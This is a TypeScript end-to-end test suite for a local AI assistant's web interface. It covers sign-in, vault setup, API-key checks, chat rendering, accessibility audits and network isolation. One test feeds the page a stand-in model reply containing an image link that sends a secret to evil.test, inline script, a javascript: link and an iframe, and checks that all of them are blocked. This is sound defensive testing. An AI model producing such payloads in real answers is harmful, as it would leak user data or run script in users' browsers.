/** The whole product, as a person meets it: the built daemon, the real OpenClaw, a real Chromium. */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { cpSync, existsSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
import { type ProviderStandIn, startProviderStandIn } from "@smartclaw/egress/testing";

const run = promisify(execFile);
const releases = process.env["SMARTCLAW_TEST_RELEASES"];
const executablePath = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].find(
  existsSync,
);
const skip =
  releases === undefined
    ? "no installed OpenClaw (SMARTCLAW_TEST_RELEASES)"
    : executablePath === undefined
      ? "no Chromium"
      : false;
const cli = fileURLToPath(new URL("../../dist/cli.js", import.meta.url));
const docs = fileURLToPath(new URL("../../../../docs/", import.meta.url));
const axeSource = createRequire(import.meta.url).resolve("axe-core");
const key = "sk-test-canary-0123456789";

let home = "";
let provider: ProviderStandIn;
let browser: Browser;
let context: BrowserContext;
let page: Page;
const foreign: string[] = [];
const violations: string[] = [];

async function smartclaw(...args: string[]): Promise<Record<string, unknown>> {
  const child = run(process.execPath, [cli, ...args, "--json"], {
    env: { ...process.env, SMARTCLAW_HOME: home, HOME: home, CI: "1" },
  });
  const { stdout } = await child.catch((error: { stdout: string }) => error);
  return JSON.parse(stdout) as Record<string, unknown>;
}

before(async () => {
  if (skip !== false) return;
  home = mkdtempSync(join(tmpdir(), "sc-page-"));
  // The installation itself has its own test; here it would only cost time.
  for (const name of ["versions", "live.json"])
    cpSync(join(releases ?? "", name), join(home, name), { recursive: true, verbatimSymlinks: true });
  provider = await startProviderStandIn({ key, models: ["standin-1", "standin-2"] });
  const { url } = (await smartclaw("start", "--no-open")) as { url: string };
  browser = await chromium.launch({
    executablePath: executablePath ?? "",
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
  });
  context = await browser.newContext({
    viewport: { width: 1280, height: 800 },
    permissions: ["clipboard-read", "clipboard-write"],
  });
  page = await context.newPage();
  page.setDefaultTimeout(15_000);
  page.on("request", (request) => {
    if (!request.url().startsWith(new URL(url).origin) && !request.url().startsWith("blob:"))
      foreign.push(request.url());
  });
  page.on("console", (message) => {
    if (/content security policy|violates/i.test(message.text())) violations.push(message.text());
  });
  await page.goto(url);
});

after(async () => {
  await browser?.close();
  if (home !== "") {
    await smartclaw("stop");
    rmSync(home, { recursive: true, force: true });
  }
  await provider?.close();
});

/** axe-core on the page as it stands, in both themes and at both widths. */
async function examine(name: string): Promise<void> {
  for (const theme of ["light", "dark"] as const)
    for (const [width, height] of [
      [1280, 800],
      [390, 844],
    ] as const) {
      await page.emulateMedia({ colorScheme: theme, reducedMotion: "reduce" });
      await page.setViewportSize({ width, height });
      await page.waitForTimeout(150);
      if (!(await page.evaluate(() => "axe" in globalThis))) {
        // The page's own policy forbids inline scripts; the test's evaluation is not the page's.
        const { readFile } = await import("node:fs/promises");
        await page.evaluate(await readFile(axeSource, "utf8"));
      }
      const found = await page.evaluate(async () => {
        const { axe } = globalThis as unknown as {
          axe: { run(): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
        };
        return (await axe.run()).violations.map(
          ({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(" | ")}`,
        );
      });
      assert.deepEqual(found, [], `${name}, ${theme}, ${width}`);
      const wide = await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      assert.ok(wide <= 0, `${name} scrolls sideways at ${width}`);
      const folder = join(tmpdir(), "smartclaw-screenshots");
      mkdirSync(folder, { recursive: true });
      await page.screenshot({ path: join(folder, `${name}-${theme}-${width}.png`) });
    }
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 800 });
}

test("the login link signs in once and leaves no token in the address", { skip }, async () => {
  await page.getByRole("heading", { name: "Your assistant, on your computer." }).waitFor();
  assert.equal(new URL(page.url()).hash, "");
  const cookies = await context.cookies();
  assert.deepEqual(
    cookies.map(({ name, httpOnly, sameSite }) => [name, httpOnly, sameSite]),
    [["smartclaw_session", true, "Strict"]],
  );
});

test("without a keystore the user chooses where the master key lives", { skip }, async () => {
  await page.getByRole("heading", { name: "Where shall the master key live?" }).waitFor();
  await examine("welcome-vault");
  await page.getByLabel("Passphrase", { exact: true }).fill("correct horse battery staple");
  await page.getByRole("button", { name: "Make the vault" }).click();
  await page.getByRole("heading", { name: /paste a key/i }).waitFor();
});

test("a wrong key is told at once; a right one leads to a real answer", { skip }, async () => {
  await page.getByLabel("API key").fill("sk-wrong");
  await page.getByLabel("Provider").selectOption("compatible");
  await page.getByLabel("Address").fill(`${provider.url}/v1`);
  await page.getByRole("button", { name: "Check and begin" }).click();
  await page.getByRole("alert").filter({ hasText: "refused the key" }).waitFor();
  await examine("welcome");
  await page.getByLabel("API key").fill(key);
  await page.getByLabel("Address").fill(`${provider.url}/v1`);
  await page.getByRole("button", { name: "Check and begin" }).click();
  await page.getByLabel("Message", { exact: true }).waitFor({ timeout: 60_000 });
  provider.script({
    kind: "answer",
    text: "Hello! I run on your own computer.\n\n- **Private** by construction\n- `loopback` only\n\n```ts\nconst answer = 42;\n```",
    chunkDelayMs: 15,
  });
  await page.getByRole("button", { name: "Say hello and tell me what you can do." }).click();
  await page.getByText("Private").waitFor({ timeout: 60_000 });
  await page.getByText("const answer = 42;").waitFor();
  await page.getByTestId("running").waitFor({ state: "detached" });
  await examine("chat");
  if (process.env["SMARTCLAW_PICTURES"] === "1") await page.screenshot({ path: join(docs, "chat.png") });
});

test("the answer's markup cannot reach out, run or pose as ours", { skip }, async () => {
  provider.script({
    kind: "answer",
    text: 'Look ![pixel](http://evil.test/p.png?secret) <img src="http://evil.test/q.png"> <script>window.hacked=1</script> [click](javascript:window.hacked=1) [fine](https://example.org/x) <iframe src="http://evil.test"></iframe> done-marker',
  });
  await send("show me");
  await page.getByText("done-marker").waitFor({ timeout: 30_000 });
  const last = page.getByRole("article").last();
  assert.equal(await last.locator("img, iframe, script").count(), 0);
  assert.equal(
    await last.getByRole("link", { name: "fine" }).getAttribute("rel"),
    "noopener noreferrer nofollow",
  );
  assert.equal(await last.locator('a[href^="javascript"]').count(), 0);
  assert.equal(await page.evaluate(() => "hacked" in globalThis), false);
});

test("stopping keeps what is there; reloading neither loses nor doubles", { skip }, async () => {
  provider.script({ kind: "answer", text: "word ".repeat(400), chunkDelayMs: 25 });
  await send("tell a long story");
  await page.getByTestId("running").getByText("word word").waitFor({ timeout: 30_000 });
  await page.keyboard.press("Escape");
  await page.getByTestId("running").waitFor({ state: "detached", timeout: 15_000 });
  const before = await page.getByRole("article").count();
  await page.reload();
  await page.getByText("tell a long story").waitFor();
  await page.getByText("done-marker").waitFor();
  assert.equal(await page.getByText("tell a long story").count(), 1);
  assert.equal(await page.getByRole("article").count(), before);
});

test("a fault of the provider is one sentence in the conversation", { skip }, async () => {
  provider.fallback(() => ({ kind: "status", status: 401, body: "{}" }));
  const started = Date.now();
  await send("and now?");
  await page
    .getByText(/refused the key/)
    .first()
    .waitFor({ timeout: 30_000 });
  provider.fallback(() => ({ kind: "answer", text: "ready" }));
  assert.ok(Date.now() - started < 15_000);
});

for (const [name, path, heading] of [
  ["keys", "/keys", "Keys"],
  ["network", "/network", "Network"],
  ["status", "/status", "Status"],
  ["settings", "/settings", "Settings"],
] as const)
  test(`${name}: no accessibility fault in any theme or width`, { skip }, async () => {
    await page.goto(new URL(path, page.url()).href);
    await page.getByRole("heading", { name: heading, level: 1 }).waitFor();
    await page.waitForTimeout(400);
    await examine(name);
  });

test("the network page shows the model request and what was refused", { skip }, async () => {
  await page.goto(new URL("/network", page.url()).href);
  await page.getByText("chat with").first().waitFor();
  await page.getByLabel("Result").selectOption("refused");
  await page
    .getByText(/not on your list|past the proxies|No connections/)
    .first()
    .waitFor();
});

test("keys can be tested, a recovery phrase made, and all of it by keyboard", { skip }, async () => {
  await page.goto(new URL("/keys", page.url()).href);
  await page.getByRole("button", { name: /^Test / }).click();
  await page.getByText(/It works: standin-1/).waitFor();
  await page.getByRole("button", { name: "Make a recovery phrase" }).focus();
  await page.keyboard.press("Enter");
  await page.getByRole("dialog").getByRole("listitem").nth(23).waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "detached" });
  await page.getByRole("button", { name: /^Delete / }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
});

test("nothing was loaded from anywhere else and no policy was broken", { skip }, () => {
  assert.deepEqual(foreign, []);
  assert.deepEqual(violations, []);
});

async function send(text: string): Promise<void> {
  const field = page.getByLabel("Message", { exact: true });
  await field.fill(text);
  await field.press("Enter");
}
